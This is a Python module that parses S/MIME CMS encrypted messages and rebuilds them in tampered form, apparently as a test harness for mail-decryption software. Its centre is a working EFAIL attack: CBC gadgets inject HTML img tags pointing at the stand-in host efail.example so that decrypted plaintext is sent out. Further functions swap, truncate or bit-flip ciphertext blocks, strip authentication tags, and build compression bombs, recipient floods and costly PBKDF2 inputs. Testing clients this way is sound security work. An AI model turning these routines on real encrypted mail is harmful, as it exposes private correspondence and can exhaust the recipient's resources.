"""Takes CMS objects apart and puts them together again with something changed: the octets of an
attacker who knows no key. BER in, DER out; only as much ASN.1 as EnvelopedData and
AuthEnvelopedData need."""

import zlib
from dataclasses import dataclass

SEQUENCE, SET, OCTET_STRING = 0x30, 0x31, 0x04


@dataclass
class Node:
    """One element: children if it is constructed, else octets."""
    tag: int
    octets: bytes = b""
    children: list = None

    def encode(self):
        body = self.octets if self.children is None else b"".join(
            child.encode() for child in self.children)
        return bytes([self.tag]) + length(len(body)) + body

    def joined(self):
        """The octets of a string, whether it came in pieces or not."""
        if self.children is None:
            return self.octets
        return b"".join(child.joined() for child in self.children)


def length(count):
    if count < 0x80:
        return bytes([count])
    octets = count.to_bytes((count.bit_length() + 7) // 8, "big")
    return bytes([0x80 | len(octets)]) + octets


def parse(octets):
    node, rest = element(octets)
    return node


def element(octets):
    tag, first, at = octets[0], octets[1], 2
    if first == 0x80:
        children, rest = [], octets[2:]
        while rest[:2] != b"\0\0":
            child, rest = element(rest)
            children.append(child)
        return Node(tag, children=children), rest[2:]
    if first & 0x80:
        at += first & 0x7F
        size = int.from_bytes(octets[2:at], "big")
    else:
        size = first
    body, rest = octets[at:at + size], octets[at + size:]
    if not tag & 0x20:
        return Node(tag, body), rest
    children = []
    while body:
        child, body = element(body)
        children.append(child)
    return Node(tag, children=children), rest


class Envelope:
    """EnvelopedData or AuthEnvelopedData of one ContentInfo."""

    def __init__(self, octets):
        self.info = parse(octets)
        self.data = self.info.children[1].children[0]
        place = next(i for i, n in enumerate(self.data.children) if n.tag == SET)
        self.recipients = self.data.children[place]
        self.content = self.data.children[place + 1]
        self.tail = self.data.children[place + 2:]     # of AuthEnvelopedData: attributes, MAC

    @property
    def parameters(self):
        return self.content.children[1].children[1]

    @property
    def iv(self):
        return self.parameters.octets

    @iv.setter
    def iv(self, octets):
        self.parameters.octets = octets

    @property
    def ciphertext(self):
        return self.content.children[2].joined()

    @ciphertext.setter
    def ciphertext(self, octets):
        self.content.children[2] = Node(0x80, octets)

    @property
    def size(self):
        """Octets of one block."""
        return len(self.iv)

    def blocks(self):
        """IV and ciphertext, block by block."""
        whole = self.iv + self.ciphertext
        return [whole[i:i + self.size] for i in range(0, len(whole), self.size)]

    def with_blocks(self, blocks):
        self.iv, self.ciphertext = blocks[0], b"".join(blocks[1:])
        return self.encode()

    def encode(self):
        return self.info.encode()

    def encrypted_keys(self):
        """The nodes of the RSA-encrypted keys."""
        return [r.children[3] for r in self.recipients.children if r.tag == SEQUENCE]


def xor(*strings):
    result = bytes(len(strings[0]))
    for string in strings:
        result = bytes(a ^ b for a, b in zip(result, string))
    return result


# ---------------------------------------------------------------- CBC gadgets

def gadget(before, block, known, wanted):
    """Two ciphertext blocks that decrypt to one block of noise and `wanted` (EFAIL §4): `known`
    is what `block` decrypts to after `before`."""
    return [xor(before, known, wanted), block]


def injected(envelope, known, text):
    """The blocks of `text` as gadgets, with noise between."""
    size, blocks = envelope.size, envelope.blocks()
    wanted = [text[i:i + size].ljust(size) for i in range(0, len(text), size)]
    pairs = [gadget(blocks[0], blocks[1], known[:size], one) for one in wanted]
    return [block for pair in pairs for block in pair]


def html_exfiltration(octets, known):
    """An HTML image whose address swallows the whole of the old content: EFAIL figure 5."""
    envelope = Envelope(octets)
    size, blocks = envelope.size, envelope.blocks()
    head = b"Content-type: text/html\n\n" if size == 16 else b"Content-Type:text/html\n\n"
    # The IV makes the first block; every later one has noise before it.
    first = head[:size].ljust(size)
    start = [xor(blocks[0], known[:size], first), blocks[1]]
    rest = injected(envelope, known, head[size:].lstrip(b"-") + b"<img ignore=\"")
    reference = injected(envelope, known, b"\" src=\"efail.example/")
    return envelope.with_blocks([*start, *rest, *reference, *blocks, *injected(
        envelope, known, b"\">"), *blocks[-2:]])


def image_inside(octets, known):
    """The same in a mail that is HTML already: the header stays, and a third of the way down an
    image begins whose address is the rest."""
    envelope = Envelope(octets)
    blocks = envelope.blocks()
    place = len(blocks) // 3
    image = injected(envelope, known, b"<img src=\"http://efail.example/")
    return envelope.with_blocks([*blocks[:place], *image, *blocks[place - 1:]])


def first_block(octets, known, wanted):
    """Changes the first block through the IV, and nothing else: no noise at all."""
    envelope = Envelope(octets)
    size = envelope.size
    envelope.iv = xor(envelope.iv, known[:size], wanted[:size].ljust(size))
    return envelope.encode()


def swapped(octets):
    envelope = Envelope(octets)
    blocks = envelope.blocks()
    middle = len(blocks) // 2
    blocks[middle], blocks[middle + 1] = blocks[middle + 1], blocks[middle]
    return envelope.with_blocks(blocks)


def repeated(octets):
    """The middle of the message twice."""
    envelope = Envelope(octets)
    blocks = envelope.blocks()
    third = len(blocks) // 3
    return envelope.with_blocks([*blocks[:2 * third], *blocks[third:]])


def truncated(octets, keep):
    envelope = Envelope(octets)
    blocks = envelope.blocks()
    return envelope.with_blocks(blocks[:max(2, int(len(blocks) * keep))])


def ragged(octets):
    """Not a whole number of blocks."""
    envelope = Envelope(octets)
    envelope.ciphertext = envelope.ciphertext[:-3]
    return envelope.encode()


def shortened(octets, keep):
    """Only the first octets of the ciphertext."""
    envelope = Envelope(octets)
    envelope.ciphertext = envelope.ciphertext[:keep]
    return envelope.encode()


def flipped(octets, at):
    """One bit of the ciphertext."""
    envelope = Envelope(octets)
    text = bytearray(envelope.ciphertext)
    text[int(len(text) * at)] ^= 1
    envelope.ciphertext = bytes(text)
    return envelope.encode()


def without_tag(octets, keep):
    """A shorter authentication tag."""
    envelope = Envelope(octets)
    envelope.tail[-1].octets = envelope.tail[-1].octets[:keep]
    return envelope.encode()


def other_key(octets, make):
    """What `make` makes of every encrypted content key."""
    envelope = Envelope(octets)
    for key in envelope.encrypted_keys():
        key.octets = make(key.octets)
    return envelope.encode()


# ---------------------------------------------------------------- too much of something

COMPRESSED = bytes.fromhex("060b2a864886f70d0109100109")
ZLIB = bytes.fromhex("060b2a864886f70d0109100308")
DATA = bytes.fromhex("06092a864886f70d010701")


def sequence(*parts, tag=SEQUENCE):
    body = b"".join(parts)
    return bytes([tag]) + length(len(body)) + body


def compressed(content):
    """CompressedData (RFC 3274 §1.1)."""
    octets = sequence(zlib.compress(content, 9), tag=OCTET_STRING)
    data = sequence(b"\x02\x01\x00", sequence(ZLIB), sequence(DATA, sequence(octets, tag=0xA0)))
    return sequence(COMPRESSED, sequence(data, tag=0xA0))


def with_recipients(octets, count):
    """The same RecipientInfo again and again, for somebody else first."""
    envelope = Envelope(octets)
    one = envelope.recipients.children[0].encode()
    stranger = parse(one)
    stranger.children[1].children[1].octets = b"\x01"
    envelope.recipients.children = [stranger] * count + [parse(one)]
    return envelope.encode()


def with_iterations(octets, count):
    """PasswordRecipientInfo whose PBKDF2 takes this many rounds."""
    envelope = Envelope(octets)
    derivation = envelope.recipients.children[0].children[1]
    derivation.children[1].children[1].octets = count.to_bytes(5, "big").lstrip(b"\0")
    return envelope.encode()
